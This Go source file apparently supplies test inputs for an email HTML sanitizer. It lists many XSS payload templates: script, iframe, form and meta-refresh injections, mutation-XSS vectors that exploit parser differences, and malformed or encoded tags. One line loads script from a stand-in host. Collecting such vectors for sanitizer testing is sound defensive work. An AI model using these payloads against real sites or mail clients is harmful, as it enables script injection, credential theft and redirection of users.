package hostilemail

// elements that run, frame, send or change where things lead.
func elements() []string {
	return named("element", lines(`
<script>{js}</script>
<script type=text/javascript>{js}</script>
<script type=module>{js}</script>
<script src={url}></script>
<script src=//hostile.invalid/loaded></script>
<script async defer src={url}></script>
<script>//<![CDATA[
<script language=vbscript>MsgBox 1</script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{url}"]}]}</script>
<script type=importmap>{"imports":{"x":"{url}"}}</script>
<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>
<template><script>{js}</script></template>
<template shadowrootmode=open><script>{js}</script></template>
<iframe src={url}></iframe>
<iframe src=javascript:{js}>
<iframe srcdoc="&lt;img src=x onerror={js}&gt;"></iframe>
<frameset><frame src={url}></frameset>
<object data={url}></object>
<object type=text/html data="data:text/html,<script>{js}</script>"></object>
<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name=DataURL value={url}></object>
<embed src={url}>
<embed src={url} type=application/x-shockwave-flash allowscriptaccess=always>
<applet codebase={url} code=x></applet>
<form action={url}><input name=password><input type=submit></form>
<form action={url} method=post id=f></form><button form=f>x</button>
<input type=image src={url}>
<select><option>x<script>{js}</script></select>
<textarea></textarea><script>{js}</script>
<button type=submit formaction={url}>x</button>
<base href={url}/>
<base href={url}><img src=x.png>
<base target=_top>
<meta http-equiv=refresh content="0;url={url}">
<meta http-equiv=refresh content="0;{url}">
<meta HTTP-EQUIV="Refresh" CONTENT="0;URL=data:text/html,<script>{js}</script>">
<meta http-equiv=Set-Cookie content="x=y">
<meta http-equiv=Content-Security-Policy content="default-src *">
<meta charset=utf-7>+ADw-script+AD4-{js}+ADw-/script+AD4-
<link rel=stylesheet href={url}>
<link rel=import href={url}>
<link rel=manifest href={url}>
<svg><script>{js}</script></svg>
<svg><foreignObject><iframe src={url}></iframe></foreignObject></svg>
<svg><image href={url}></svg>
<svg><use href="{url}#x"></svg>
<svg><feImage href={url}></svg>
<svg><style>@import '{url}';</style></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>{js}</handler></svg>
<math><annotation-xml encoding=text/html><script>{js}</script></annotation-xml></math>
<math><mtext><img src=x onerror={js}></mtext></math>
<xml><x xmlns:x="http://www.w3.org/1999/xhtml"><x:script>{js}</x:script></x></xml>
<?xml-stylesheet href="javascript:{js}"?>
<?import namespace=t implementation=#default#time2>
<!DOCTYPE html [<!ENTITY x "<script>{js}</script>">]>&x;
<![CDATA[<script>{js}</script>]]>
<dialog open>x</dialog>
<portal src={url}></portal>
<fencedframe src={url}></fencedframe>
<canvas id=c></canvas>
<audio autoplay src={url}></audio>
<video autoplay src={url} poster={url}></video>
<layer src={url}></layer>
<ilayer src={url}></ilayer>
<bgsound src={url}>
<comment><img src="</comment><img src=x onerror={js}>">
<slot name=x onslotchange={js}></slot>
<div id=location name=location>x</div><a id=document name=cookie href=x>x</a>
<a href="{url}" target=_top>x</a>
<a href="{url}" target=_parent rel=opener>x</a>
`)...)
}

// mutations are read one way by whoever cleans them and another way by a browser, or change when they are written and read again.
func mutations() []string {
	return named("mutation", lines(`
<noscript><p title="</noscript><img src=x onerror={js}>">
<svg></p><style><a id="</style><img src=1 onerror={js}>">
<svg><p><style><g title="</style><img src=x onerror={js}>"></style></p></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">
<math><mtext><table><mglyph><style><math><img src onerror={js}></style></mglyph></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>
<svg><style><img src=x onerror={js}></style></svg>
<math><style><img src=x onerror={js}></style></math>
<svg><desc><style><img title="</style><img src=x onerror={js}>"></desc></svg>
<svg><title><style><img title="</style><img src=x onerror={js}>"></title></svg>
<svg><foreignobject><p><style><a title="</style><img src=x onerror={js}>">
<style><style/><img src=x onerror={js}></style>
<style></style/><img src=x onerror={js}>
<style><!--</style><script>{js}//--></script>
<title><a href="</title><img src=x onerror={js}>">x</a>
<textarea><a href="</textarea><img src=x onerror={js}>">x</a>
<xmp><p title="</xmp><img src=x onerror={js}>">
<iframe><p title="</iframe><img src=x onerror={js}>">
<noembed><p title="</noembed><img src=x onerror={js}>">
<noframes><p title="</noframes><img src=x onerror={js}>">
<plaintext><img src=x onerror={js}>
<listing>&lt;img src=x onerror={js}&gt;</listing>
<template><s><template><s><img src=x onerror={js}></s></template>
<select><style></select><img src=x onerror={js}></style>
<select><iframe></select><img src=x onerror={js}></iframe>
<option><style></option></select><img src=x onerror={js}></style>
<table><td><select><input><img src=x onerror={js}>
<p id="`+"`"+`"><img alt="`+"`"+`" src=x onerror={js}></p>
<img alt="`+"``"+`onerror={js}" src=x>
<a title="&lt;img src=x onerror={js}&gt;">x</a>
<a title='"><img src=x onerror={js}>'>x</a>
<b title="--><script>{js}</script>">x</b>
<!-- <img title="--><img src=x onerror={js}>"> -->
<!--><img src=x onerror={js}>-->
<!---><img src=x onerror={js}>-->
<!-- --!><img src=x onerror={js}>-->
<!--[if gte IE 4]><script>{js}</script><![endif]-->
<!--[if mso]><img src={url}><![endif]-->
<![if !mso]><script>{js}</script><![endif]>
<!-- x -- ><img src=x onerror={js}>
<? x="<img src=x onerror={js}>" ?>
</ x="><img src=x onerror={js}>">
<% x %><img src=x onerror={js}>
<a href="x"&#x20;onclick={js}>x</a>
<svg><a><rect width=99% height=99% /><animate attributeName=href to=javascript:{js} />
<math><a xlink:href=javascript:{js}>x
<div><svg><desc><div></svg></desc><img src=x onerror={js}>
<table><tbody><svg><style><a title="</style><img src=x onerror={js}>">
<ruby><rt><svg><style><a title="</style><img src=x onerror={js}>">
<font color="x"><p><svg><style></font><img src=x onerror={js}>
<p><style></p><img src=x onerror={js}></style>
&lt;script&gt;{js}&lt;/script&gt;
&amp;lt;script&amp;gt;{js}&amp;lt;/script&amp;gt;
<p>&lt;<b>img src=x onerror={js}</b>&gt;</p>
`)...)
}

// tags that are not written as they should be.
func tags() []string {
	list := lines(`
<scr<script>ipt>{js}</scr</script>ipt>
<<script>{js}//<</script>
<script/x>{js}</script>
<script	>{js}</script>
<SCRIPT>{js}</SCRIPT>
<script>{js}</script	x>
<script>{js}
<script src={url} <b>
<script a=">" src={url}></script>
<script a='>' src={url}></script>
<script =">" src={url}></script>
<img src=x onerror={js}
<img src="x" onerror="{js}"
<img src=x ` + "`" + `onerror={js}>
<img
src=x
onerror={js}>
<img/**/src=x/**/onerror={js}>
<img src=x onerror={js} /
<img src=x onerror=` + "`{js}`" + `>
<a<img src=x onerror={js}>>x
<x/><img src=x onerror={js}>
</img src=x onerror={js}>
</script><script>{js}</script>
<br size="&{{js}}">
<a href="x" href="javascript:{js}">x</a>
<a href="javascript:{js}" href="x">x</a>
<img src="cid:x" src=x onerror={js}>
<imG/sRc=x/OnErRoR={js}>
<img:x src=x onerror={js}>
<html:script>{js}</html:script>
<o:script>{js}</o:script>
<x:img src=x onerror={js}>
<script&gt;{js}</script>
<&#115;cript>{js}</script>
%3Cscript%3E{js}%3C/script%3E
+ADw-script+AD4-{js}+ADw-/script+AD4-
<div style="x" style="background:url({url})">x</div>
`)
	list = append(list,
		"<img src=x\x00 onerror={js}>", "<scr\x00ipt>{js}</script>", "<\x00script>{js}</script>", "<img src=x onerror\x00={js}>", "<img src=x\x0bonerror={js}>", "<img\x0csrc=x\x0conerror={js}>",
		"<script\x20type=\"text/javascript\">{js};</script>", "<script\x0d>{js}</script>", "\xbcscript\xbe{js}\xbc/script\xbe", "\u3008script\u3009{js}\u3008/script\u3009", "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
		"\x1b$B<img alt=\x1b(B><img src=x onerror={js}>", "<img src=x onerror={js}\xc0>", "<p title=\"\xc0\"><img src=x onerror={js}>", "\xef\xbb\xbf<script>{js}</script>", "<\u0130mg src=x onerror={js}>", "<\u017fcript>{js}</script>")
	return named("tag", list...)
}
